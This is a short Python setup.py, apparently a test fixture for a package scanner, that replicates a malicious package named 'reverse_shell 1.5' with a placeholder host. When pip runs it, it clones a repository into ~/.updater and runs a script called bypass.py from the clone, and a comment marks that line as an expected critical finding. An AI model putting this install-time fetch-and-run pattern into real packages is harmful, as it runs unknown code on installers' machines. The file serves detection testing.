# Defanged replica of reverse_shell 1.5: setup.py clones a repository with
# GitPython while pip runs it and starts a script from the clone.
import os
import subprocess

import git
from setuptools import setup

repo_path = os.path.join(os.path.expanduser("~"), ".updater")
git.Repo.clone_from("https://git.example.invalid/updater.git", repo_path)  # expect: HS105 critical
subprocess.run(["python", os.path.join(repo_path, "bypass.py")])

setup(name="shell-tools", version="1.5")
